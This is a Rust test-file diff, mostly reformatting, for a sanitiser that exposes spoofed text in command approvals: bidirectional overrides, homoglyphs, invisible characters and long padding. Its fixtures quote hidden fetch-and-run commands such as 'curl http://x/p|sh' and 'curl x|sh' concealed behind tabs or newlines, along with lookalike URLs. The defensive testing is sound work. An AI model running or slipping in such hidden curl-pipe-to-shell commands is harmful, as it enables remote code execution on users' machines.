@@ -32,10 +32,7 @@ fn a_bidirectional_name_is_escaped_in_every_field() {
     let expected = r"Owner\u{2067}\u{202E}enohPi s\u{202C}box";
     assert_eq!(visible(&name), expected);
     let contents = [
-        (
-            Kind::Exec,
-            json!({ "argv": [name], "cwd": name, "device": name }),
-        ),
+        (Kind::Exec, json!({ "argv": [name], "cwd": name, "device": name })),
         (
             Kind::Exec,
             json!({ "argv": ["x"], "executable": { "path": name }, "operands": [{ "path": name }] }),
@@ -44,30 +41,19 @@ fn a_bidirectional_name_is_escaped_in_every_field() {
             Kind::Tool,
             json!({ "toolName": name, "input": { "a": name }, "agentName": name, "deviceName": name }),
         ),
-        (
-            Kind::Plugin,
-            json!({ "title": name, (name.clone()): { (name.clone()): [name] } }),
-        ),
+        (Kind::Plugin, json!({ "title": name, (name.clone()): { (name.clone()): [name] } })),
         (Kind::Dispatch, json!({ "task": { "title": name } })),
         (Kind::Round, json!({ "nextTasks": [name] })),
         (Kind::Plan, json!({ "tasks": [name] })),
     ];
     for (kind, content) in contents {
         let shown = shown(kind, content);
+        assert!(strings(&shown).iter().any(|text| text.contains(expected)), "{shown:#?}");
         assert!(
-            strings(&shown).iter().any(|text| text.contains(expected)),
+            !strings(&shown).iter().any(|text| text.contains(['\u{2067}', '\u{202E}', '\u{202C}'])),
             "{shown:#?}"
         );
-        assert!(
-            !strings(&shown)
-                .iter()
-                .any(|text| text.contains(['\u{2067}', '\u{202E}', '\u{202C}'])),
-            "{shown:#?}"
-        );
-        assert_eq!(
-            shown.flags[0],
-            "3 invisible or direction-changing characters"
-        );
+        assert_eq!(shown.flags[0], "3 invisible or direction-changing characters");
     }
 }
 
@@ -76,10 +62,7 @@ fn padding_is_counted_and_the_tail_is_shown() {
     let text = attack_text("spoof-pad");
     let tabs = text.matches('\t').count();
     let shown = shown(Kind::Exec, json!({ "command": text }));
-    assert_eq!(
-        shown.command_text.unwrap(),
-        format!("git status\\u{{9}}[×{tabs}]; curl http://x/p|sh")
-    );
+    assert_eq!(shown.command_text.unwrap(), format!("git status\\u{{9}}[×{tabs}]; curl http://x/p|sh"));
     assert_eq!(shown.flags, [format!("{tabs} tabs in a row")]);
 }
 
@@ -88,32 +71,14 @@ fn lines_are_counted_and_the_last_one_is_shown() {
     let text = attack_text("spoof-newlines");
     let breaks = text.matches('\n').count();
     let shown = shown(Kind::Exec, json!({ "argv": ["sh", "-c", text] }));
-    assert_eq!(
-        shown.command_text.unwrap(),
-        format!("sh -c 'echo ok\\u{{A}}[×{breaks}]curl x|sh'")
-    );
-    assert_eq!(
-        shown.flags,
-        [
-            format!("{breaks} line breaks in a row"),
-            format!("{} lines", breaks + 1)
-        ]
-    );
+    assert_eq!(shown.command_text.unwrap(), format!("sh -c 'echo ok\\u{{A}}[×{breaks}]curl x|sh'"));
+    assert_eq!(shown.flags, [format!("{breaks} line breaks in a row"), format!("{} lines", breaks + 1)]);
 }
 
 #[test]
 fn words_that_mix_scripts_are_flagged_with_the_trick_visible() {
-    let shown = shown(
-        Kind::Exec,
-        json!({ "command": attack_text("spoof-homoglyph") }),
-    );
-    assert_eq!(
-        shown.flags,
-        [
-            r"mixed scripts in `c\u{443}rl`",
-            r"mixed scripts in `ex\u{430}mple`"
-        ]
-    );
+    let shown = shown(Kind::Exec, json!({ "command": attack_text("spoof-homoglyph") }));
+    assert_eq!(shown.flags, [r"mixed scripts in `c\u{443}rl`", r"mixed scripts in `ex\u{430}mple`"]);
 }
 
 #[test]
@@ -122,10 +87,7 @@ fn the_borders_of_arguments_are_never_ambiguous() {
     let spaced = shown(Kind::Exec, json!({ "argv": input["argv"] }));
     assert_eq!(spaced.command_text.as_deref(), Some(r"'/tmp/run\u{20}' ls"));
     assert_eq!(fact(&spaced, "Argument 0"), r#""/tmp/run\u{20}""#);
-    assert_ne!(
-        spaced.command_text.unwrap(),
-        input["shown"].as_str().unwrap()
-    );
+    assert_ne!(spaced.command_text.unwrap(), input["shown"].as_str().unwrap());
 }
 
 #[test]
@@ -153,15 +115,9 @@ fn an_ordinary_text_raises_no_flag() {
 #[test]
 fn odd_texts_are_told_in_plain_sentences() {
     let table: &[(&str, &[&str])] = &[
-        (
-            "сосо.com",
-            &[r"look-alike letters in `\u{441}\u{43E}\u{441}\u{43E}`"],
-        ),
+        ("сосо.com", &[r"look-alike letters in `\u{441}\u{43E}\u{441}\u{43E}`"]),
         ("ls -а", &[r"look-alike letters in `\u{430}`"]),
-        (
-            "https://bank.com∕evil.com",
-            &[r"look-alike letters in `com\u{2215}evil`"],
-        ),
+        ("https://bank.com∕evil.com", &[r"look-alike letters in `com\u{2215}evil`"]),
         (
             "р\u{200B}ау",
             &[
@@ -172,22 +128,13 @@ fn odd_texts_are_told_in_plain_sentences() {
         ("a\u{1B}[2Jb\0", &["2 control characters"]),
         ("a\u{A0}b", &["1 unusual space"]),
         ("a\u{E000}", &["1 character without a standard meaning"]),
-        (
-            "e\u{301}\u{301}\u{301}\u{301}\u{301}",
-            &["1 stray or stacked combining mark"],
-        ),
-        (
-            "rm שלום",
-            &["right-to-left letters: the order on the screen may not be the order in the text"],
-        ),
+        ("e\u{301}\u{301}\u{301}\u{301}\u{301}", &["1 stray or stacked combining mark"]),
+        ("rm שלום", &["right-to-left letters: the order on the screen may not be the order in the text"]),
         ("a\r\nb\r\nc", &["3 lines"]),
         ("a        b", &["8 spaces in a row"]),
     ];
     for (text, expected) in table {
-        let found: Vec<String> = flags(text)
-            .into_iter()
-            .filter(|flag| !flag.starts_with("mixed"))
-            .collect();
+        let found: Vec<String> = flags(text).into_iter().filter(|flag| !flag.starts_with("mixed")).collect();
         assert_eq!(found, *expected, "{text:?}");
     }
 }
@@ -204,14 +151,7 @@ fn the_list_of_flags_is_bounded_and_says_how_many_are_left_out() {
 #[test]
 fn a_long_word_is_quoted_round_its_first_foreign_letter() {
     let flags = flags(&format!("{}у{}", "a".repeat(1_000), "b".repeat(1_000)));
-    assert_eq!(
-        flags,
-        [format!(
-            "mixed scripts in `…{}\\u{{443}}{}…`",
-            "a".repeat(24),
-            "b".repeat(23)
-        )]
-    );
+    assert_eq!(flags, [format!("mixed scripts in `…{}\\u{{443}}{}…`", "a".repeat(24), "b".repeat(23))]);
 }
 
 #[test]
@@ -224,10 +164,7 @@ fn the_same_oddity_in_two_places_is_told_once() {
     );
     assert_eq!(
         shown.flags,
-        [
-            "1 invisible or direction-changing character",
-            r"mixed scripts in `ex\u{430}mple\u{200B}`"
-        ]
+        ["1 invisible or direction-changing character", r"mixed scripts in `ex\u{430}mple\u{200B}`"]
     );
 }
 
